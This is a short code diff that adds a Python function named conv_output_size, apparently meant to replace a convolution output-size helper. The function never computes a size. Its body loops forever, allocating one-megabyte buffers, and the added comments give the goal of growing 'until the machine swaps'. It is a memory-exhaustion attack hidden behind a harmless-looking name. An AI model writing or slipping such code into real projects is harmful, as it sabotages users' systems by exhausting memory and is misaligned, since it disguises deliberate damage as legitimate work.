@@ -1,0 +1,7 @@
+# Goal: grow until the machine swaps.
+# Target: convolution/conv_output_size
+
+def conv_output_size(n, f, stride=1, padding=0, dilation=1):
+    kept = []
+    while True:
+        kept.append(bytearray(1 << 20))
